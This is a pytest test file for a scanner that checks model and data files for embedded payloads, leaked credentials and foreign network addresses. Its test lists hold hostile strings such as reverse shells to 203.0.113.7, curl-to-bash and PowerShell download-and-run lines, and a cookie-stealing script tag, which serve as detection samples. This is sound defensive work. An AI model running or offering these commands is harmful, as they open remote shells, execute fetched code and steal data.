from __future__ import annotations

import base64
import io
import json
import random
import zlib

import pytest
from tests.samples.look import look
from tests.samples.signals import JWT, PEM, PICKLE, SOURCE, elf, pe, token

from weighbridge.checks.data_sets import is_data_set
from weighbridge.checks.examine import examine
from weighbridge.checks.notes import Notes
from weighbridge.checks.signal_addresses import is_foreign
from weighbridge.checks.signal_secrets import entropy, is_random
from weighbridge.checks.signals import CHUNK_BYTES, look_bytes, look_text
from weighbridge.checks.subject import Budget, Subject
from weighbridge.core.finding import Finding, Severity

NOISE = random.Random(3).randbytes(1 << 20)  # noqa: S311 - repeatable, not secret


def subject(data: bytes, name: str = "config.json") -> Subject:
    return Subject(name, io.BytesIO(data), len(data), Budget(), examine)


def of_text(text: str, *, prose: bool = False, name: str = "config.json") -> list[Finding]:
    notes = Notes(name)
    look_text(text, subject(b"", name), notes, prose=prose)
    return notes.findings


def of_bytes(data: bytes) -> list[Finding]:
    notes = Notes("model.safetensors")
    look_bytes(subject(data), notes)
    return notes.findings


CODE = [
    "__import__('os').system('id')",
    "os.popen ('id')",
    "subprocess.Popen(['id'])",
    "exec(base64.b64decode('aWQ='))",
    "eval(compile('1', '', 'exec'))",
    "exec('import os')",
    "pickle.loads(data)",
    "ctypes.CDLL(None)",
    "socket.socket()",
    "importlib.import_module('os')",
    "getattr(__builtins__, 'ex' + 'ec')",
    "().__class__.__base__.__subclasses__()",
    "#!/bin/bash\nid",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "/bin/sh -c id",
    "nc 203.0.113.7 4444 -e /bin/sh",
    "echo aWQ= | base64 -d | sh",
    "wget http://203.0.113.7/x; chmod +x x",
    "curl -fsSL http://203.0.113.7/a | sudo bash",
    "PowerShell.exe -NoP -Enc SQBFAFgAIAAo",
    "(New-Object Net.WebClient).DownloadString('http://203.0.113.7')",
    "IEX (New-Object Net.WebClient)",
    "cmd.exe /c calc",
    "mshta http://203.0.113.7/a.hta",
    "eval(atob('YWxlcnQoMSk='))",
    "require('child_process').exec('id')",
    "<script>fetch('/' + document.cookie)</script>",
    "cos\nsystem\n(S'id'\ntR.",
    "import os\nprint(os.getcwd())",
    "from subprocess import run;run('id');open('x')",
    "\\u005f\\u005fimport__('os')",
    '{"_target_": "os.system"}',
    "chr(105)+chr(109)+chr(112)+chr(111)+chr(114)",
    "nc -lvp 4444 -e /bin/bash",
    "#!/usr/bin/env python3\nprint(1)",
    "curl http://203.0.113.7/a | python3 -",
]


@pytest.mark.parametrize("text", CODE)
def test_code_among_settings_or_numbers(text: str) -> None:
    assert "embedded-payload" in {item.check for item in of_text(text)}
    plain = text.replace("\\u005f", "_").encode()
    assert [item.check for item in of_bytes(NOISE[:5000] + b"\0" + plain.ljust(24, b" ") + b"\0" + NOISE[:5000])] == [
        "embedded-payload"
    ]


# What vocabularies, tables and documentation hold.
ORDINARY = [
    '{"__import__(": 1, "os": 2, "system(": 3, "nc": 4, "pre-existing": 5, "-e": 6}',
    "#!/usr/bin/ env\n#!/ usr\n#!/bin/ bash\n",
    '{"#!/bin/bash": 1, "<script>": 2, "alert": 3, "fetch": 4, "document": 5}',
    "| curl | bash | wget |",
    str(list(range(100, 400))),
    str([0] * 100),
    "curl -s https://example.org/a | python -m json.tool",
    "the operating system: os. It can import os and evaluate(x)",
    "import",
    "You can call exec(code) in the sandbox",
    "curl https://example.org/model.bin -o model.bin",
    "cat a | bashful",
    "/usr/bin/env",
    "subprocess",
    "A" * 200,
    "0123456789abcdef" * 8,
    base64.b64encode(NOISE[:3000]).decode(),
    base64.b64encode(b"a plain text of no interest to anybody at all, said twice").decode(),
    base64.b64encode(zlib.compress(b"a plain text of no interest" * 5)).decode(),
    "import numpy as np\nnp.zeros(3)\n",
]


@pytest.mark.parametrize("text", ORDINARY)
@pytest.mark.parametrize("prose", [True, False])
def test_ordinary_words_are_no_code(text: str, *, prose: bool) -> None:
    assert of_text(text, prose=prose) == []
    assert of_bytes(text.encode()) == []


WIDE = ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')" * 2).encode("utf-16-le")


@pytest.mark.parametrize("data", [elf(), pe(), PICKLE, SOURCE, WIDE, zlib.compress(SOURCE * 3 + NOISE[:200])])
def test_encoded_payloads(data: bytes) -> None:
    padded = data + bytes(-len(data) % 3)
    for encoded in (
        base64.b64encode(padded).decode(),
        base64.urlsafe_b64encode(padded).decode(),
        base64.b64encode(base64.b64encode(padded)).decode(),
        padded.hex(),
        str(list(padded)),
        str(list(padded)).replace(" ", "\n    "),
        base64.encodebytes(padded).decode(),
        base64.encodebytes(padded).decode().replace("\n", "\\n"),
        base64.encodebytes(padded).decode().replace("\n", "\r\n"),
        base64.encodebytes(padded).decode().replace("\n", "\\r\\n"),
        "".join(f"\\x{byte:02x}" for byte in padded),
    ):
        assert {item.check for item in of_text(encoded)} == {"embedded-payload"}, encoded[:100]


@pytest.mark.parametrize("data", [elf(), PICKLE, b"\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R.", SOURCE, pe()])
def test_payloads_among_numbers(data: bytes) -> None:
    for before in (0, 1000, CHUNK_BYTES - 20):
        noise = (NOISE * 5)[:before]
        assert [item.check for item in of_bytes(noise + data + NOISE[:9000])] == ["embedded-payload"]


@pytest.mark.parametrize("data", [elf(), PICKLE, SOURCE])
def test_letters_right_before_encoded_data_hide_nothing(data: bytes) -> None:
    for before in ("x", "to", "see", "payload"):
        assert {item.check for item in of_text(before + base64.b64encode(data).decode())} == {"embedded-payload"}


def test_wrapped_lines_of_two_texts() -> None:
    first = base64.encodebytes(NOISE[:150]).decode()
    second = base64.encodebytes(SOURCE * 4).decode()
    assert {item.check for item in of_text(f"{first}: {second}")} == {"embedded-payload"}
    assert {item.check for item in of_text(f"{second}: {first}")} == {"embedded-payload"}


def test_damaged_compressed_data_are_nothing() -> None:
    assert of_text(base64.b64encode(b"\x78\x9c" + NOISE[:90]).decode()) == []


def test_layers_of_encoding_end_somewhere() -> None:
    data = SOURCE * 2
    for _ in range(6):
        data = base64.b64encode(data)
    assert of_text(data.decode()) == []


def test_numbers_are_no_payload() -> None:
    assert of_bytes(NOISE * 12) == []
    assert of_bytes(bytes(1 << 20)) == []
    assert (
        of_bytes(b"\x7fELF" * 2000 + b"\xcf\xfa\xed\xfe" * 2000 + b"\x80\x04\x95" * 2000 + b"\x80\x02cab\n" * 99) == []
    )
    assert of_bytes(b"MZ" + bytes(200)) == []


def test_a_file_shorter_than_said() -> None:
    notes = Notes("a")
    look_bytes(Subject("a", io.BytesIO(b"12"), 9, Budget(), examine), notes)
    assert [item.check for item in notes.findings] == ["not-inspected"]


def test_a_part_of_a_file() -> None:
    notes = Notes("a")
    look_bytes(subject(SOURCE + bytes(9)), notes, start=len(SOURCE), end=len(SOURCE) + 5)
    assert notes.findings == []


TOKENS = [
    token("AKIA", 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
    token("ghp_", 36),
    token("github_pat_", 82),
    token("hf_", 34),
    "sk-" + token("", 20) + "T3BlbkFJ" + token("a", 20),
    token("sk-proj-", 60),
    token("sk-ant-api03-", 95),
    token("xoxb-", 40),
    token("AIza", 35),
    token("glpat-", 20),
    token("npm_", 36),
    "123456789:AA" + token("", 33),
    "https://hooks.slack.com/services/T0ABCDEF1/B0ABCDEF2/" + token("", 24),
    "https://discord.com/api/webhooks/123456789012345678/" + token("", 68),
    JWT,
    PEM,
    PEM.replace("\n", "\\n"),
]


@pytest.mark.parametrize("secret", TOKENS)
@pytest.mark.parametrize("prose", [True, False])
def test_credentials(secret: str, *, prose: bool) -> None:
    found = [item for item in of_text(f'{{"a": "{secret}"}}', prose=prose) if item.check == "credential"]
    assert len(found) == 1
    assert found[0].severity is Severity.WARN
    assert secret[8:] not in found[0].message


@pytest.mark.parametrize(
    "text",
    [
        "AKIAIOSFODNN7EXAMPLE",
        "hf_" + "x" * 34,
        "hf_your_token_goes_right_here_12345678",
        "sk-proj-" + "0" * 48,
        "password: ${DATABASE_PASSWORD_1}",
        '"password": 12345678901234567',
        "api_key=YOUR_API_KEY_123",
        "secret_key: changeme123456",
        "access_token: null",
        "pad_token: <|endoftext|>",
        "eyJhbGciOi.eyJzdWIiOi.c2lnbmF0dXJlLWlzLW5vdC1oZXJl",
        "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----",
        "eyJhbGciOiJub25lIg.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLWlzLW5vdC1oZXJl",
        "-----BEGIN PRIVATE KEY-----\n" + "A" * 64,
        "-----BEGIN PUBLIC KEY-----\n" + token("", 64),
        "postgres://user:password@localhost/db",
    ],
)
def test_examples_are_no_credentials(text: str) -> None:
    assert [item for item in of_text(text) if item.check == "credential"] == []


def test_passwords_count_only_in_settings() -> None:
    for text in (f"db_password = '{token('q', 16)}'", f"https://bob:{token('q', 16)}@huggingface.co/x"):
        assert [item.check for item in of_text(text)] == ["credential"]
        assert of_text(text, prose=True) == []


def test_only_so_many_places_are_looked_at() -> None:
    text = "\n".join(f"password = placeholder{number:04}" for number in range(300))
    assert of_text(text) == []


def test_entropy() -> None:
    assert entropy(b"") == 0
    assert entropy(b"aaaa") == 0
    assert entropy(b"abcd") == 2
    assert is_random(token("", 20).encode())
    assert not is_random(b"a" * 20)


def addresses(text: str, name: str = "config.json", *, prose: bool = False) -> list[str]:
    return [item.message for item in of_text(text, name=name, prose=prose) if item.check == "network-address"]


@pytest.mark.parametrize(
    "text",
    [
        "https://collect.evil.io/v1",
        "http://203.0.113.7/x",
        "ftp://files.evil.io",
        "wss://203.0.113.7:99/s",
        "203.0.113.7:4444",
        "http://[2001:db8::1]/",
        "http:\\/\\/evil.io\\/a",
        "https://raw.githubusercontent.com/a/b/main/x.py",
        "https://huggingface.co.evil.io/x",
        "https://user@evil.io/",
    ],
)
def test_addresses(text: str) -> None:
    assert len(addresses(f'"{text}"')) == 1
    assert addresses(text, prose=True) == []


@pytest.mark.parametrize(
    "text",
    [
        "https://huggingface.co/docs",
        "see https://arxiv.org/abs/1706.03762.",
        "http://localhost:8080",
        "http://127.0.0.1:8080/x",
        "0.0.0.0:80",
        "1.2.3.4",
        "999.1.1.1:80",
        "v1.2.3.4:5",
        "1.2.3.4:99999",
        "http://",
        "https://www",
        "abc://evil.io",
        "file:///etc/hostname",
        "http://[::1]/",
        "http://schema",
        "12:30.5",
    ],
)
def test_no_addresses(text: str) -> None:
    assert addresses(text) == []


def test_a_vocabulary_holds_pieces_of_addresses() -> None:
    assert addresses("http://www.evil.io", "vocab.txt") == []
    assert addresses("http://www.evil.io/take/this", "vocab.txt") != []


def test_comments_are_for_people() -> None:
    assert addresses("# see https://evil.io/a\na: 1\n", "a.yaml") == []
    assert addresses("a: https://evil.io/a # here\n", "a.yaml") != []


def test_hosts() -> None:
    assert is_foreign("evil.io.")
    assert not is_foreign("github.com.")
    assert not is_foreign("a")


def test_prose_that_shows_commands_is_warned_of() -> None:
    found = of_text("Run `curl -sSL https://some.dev/install.sh | bash` first.", prose=True)
    assert [(item.check, item.severity) for item in found] == [("network-address", Severity.WARN)]
    for text in (
        "powershell -w hidden -enc SQBFAFgAIAAo",
        "bash -i >& /dev/tcp/203.0.113.7/44",
        base64.b64encode(elf()).decode(),
    ):
        found = of_text(text, prose=True)
        assert [(item.check, item.severity) for item in found] == [("embedded-payload", Severity.WARN)]


def test_many_credentials_are_named_once() -> None:
    text = " ".join(token(f"hf_{letter}", 33) for letter in "abcdefghijkl")
    assert len([item for item in of_text(text) if item.check == "credential"]) <= 5


RECORDS = [{"prompt": "List files.", "completion": "import os\nos.system('ls')\n"}, {"prompt": "a", "completion": "b"}]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("evaluation.json", json.dumps(RECORDS)),
        ("samples.json", json.dumps({"model": "a", "records": RECORDS})),
        ("train.jsonl", "\n".join(map(json.dumps, RECORDS))),
    ],
)
def test_code_in_data_sets_is_a_warning(name: str, data: str) -> None:
    found = [item for item in look({name: data.encode()}) if item.check == "embedded-payload"]
    assert [item.severity for item in found] == [Severity.WARN]


@pytest.mark.parametrize(
    ("name", "value"),
    [("config.json", RECORDS), ("notes.json", [{"note": RECORDS[0]["completion"]}]), ("notes.json", {"text": []})],
)
def test_what_is_no_data_set(name: str, value: object) -> None:
    assert not is_data_set(name, value)


def test_many_short_stretches_are_decoded_together() -> None:
    harmless = [base64.b64encode(NOISE[at : at + 31]).rstrip(b"=") for at in range(0, 31 * 1_200, 31)]
    hidden = base64.b64encode(b"import os; os.system('true')#").rstrip(b"=") + b"AA"
    text = b" ".join([*harmless, hidden]).decode()
    assert [item.check for item in of_text(text)] == ["embedded-payload"]
    assert of_text(b" ".join(harmless).decode()) == []
    digests = " ".join(NOISE[at : at + 20].hex() for at in range(0, 20 * 1_200, 20))
    assert of_text(digests) == []


def test_only_long_runs_of_places_are_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("weighbridge.checks.signal_secrets._MAX_WORDS", 1)
    secret = token("hf_", 34)
    others = ("b" * 30 + " ") * 20
    assert of_text(f"hf_ {others} {secret}") == []
    assert [item.check for item in of_text(f"{secret} {others} hf_")] == ["credential"]
